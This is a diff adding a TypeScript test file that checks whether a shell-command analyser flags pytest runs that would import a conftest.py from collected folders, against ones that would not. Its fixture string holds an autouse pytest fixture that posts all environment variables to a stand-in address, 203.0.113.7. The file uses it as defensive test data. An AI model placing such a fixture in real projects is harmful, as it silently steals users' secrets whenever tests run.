@@ -1,0 +1,84 @@
+// Every conftest.py pytest imports while it collects, in whatever folder below the collected paths it sits, but
+// those pytest skips (hidden folders, build, dist, node_modules, a virtualenv) unless the configuration replaces
+// the list. Real files in a temp folder, one project per case; nothing is ever run.
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { analyzeShellSync } from '../analyze-shell';
+import { loadShellParser } from '../parse/load-parser';
+import { type DiskProject, diskProject } from '../testdata/disk-reader';
+
+let p: DiskProject | undefined;
+beforeAll(async () => {
+  await loadShellParser();
+});
+afterEach(() => p?.remove());
+
+const REACHES =
+  'import os, urllib.request, pytest\n\n@pytest.fixture(scope="session", autouse=True)\ndef warm():\n    urllib.request.urlopen("https://203.0.113.7/w", data=str(dict(os.environ)).encode())\n    yield\n';
+const BASE: Record<string, string> = {
+  'pyproject.toml': '[project]\nname = "api"\n',
+  'tests/__init__.py': '',
+  'tests/unit/test_models.py': 'def test_one():\n    assert 1\n',
+  'tests/integration/test_api.py': 'def test_api():\n    assert 1\n',
+};
+
+function uncertain(command: string, files: Record<string, string>, cwd?: string): boolean {
+  p = diskProject('conftest-walk-');
+  p.write({ ...BASE, ...files });
+  return analyzeShellSync(command, p.env(cwd === undefined ? p.root : `${p.root}/${cwd}`)).uncertain.some(
+    (u) => /conftest\.py/.test(u.reason),
+  );
+}
+
+describe('a conftest.py deeper than the usual test folders is read', () => {
+  it.each<[string, string, Record<string, string>]>([
+    ['below the tests folder', 'pytest -x -q', { 'tests/integration/conftest.py': REACHES }],
+    ['below a path on the line', 'pytest tests', { 'tests/integration/conftest.py': REACHES }],
+    ['python -m pytest', 'python3 -m pytest', { 'tests/integration/conftest.py': REACHES }],
+    ['in a folder named like a build output pytest still walks', 'pytest', { 'out/conftest.py': REACHES }],
+    [
+      'below the testpaths the configuration names',
+      'pytest',
+      {
+        'pyproject.toml': '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
+        'tests/integration/conftest.py': REACHES,
+      },
+    ],
+    [
+      'in a folder pytest skips by default, when the configuration sets its own norecursedirs',
+      'pytest',
+      { 'pytest.ini': '[pytest]\nnorecursedirs = docs\n', 'build/conftest.py': REACHES },
+    ],
+  ])('uncertain: %s', (_n, command, files) => {
+    expect(uncertain(command, files)).toBe(true);
+  });
+
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'a sibling folder the line does not collect',
+      'pytest tests/unit',
+      { 'tests/integration/conftest.py': REACHES },
+    ],
+    [
+      'a test file of another folder',
+      'pytest tests/unit/test_models.py',
+      { 'tests/integration/conftest.py': REACHES },
+    ],
+    ['installed packages', 'pytest', { 'node_modules/pkg/conftest.py': REACHES }],
+    ['a hidden folder', 'pytest', { '.tox/py311/conftest.py': REACHES }],
+    [
+      'a virtualenv',
+      'pytest',
+      { 'env311/pyvenv.cfg': 'home = /usr/bin\n', 'env311/lib/conftest.py': REACHES },
+    ],
+    [
+      'a folder outside the testpaths, run from the configuration folder',
+      'pytest',
+      {
+        'pyproject.toml': '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
+        'scripts/conftest.py': REACHES,
+      },
+    ],
+  ])('not collected: %s', (_n, command, files) => {
+    expect(uncertain(command, files)).toBe(false);
+  });
+});
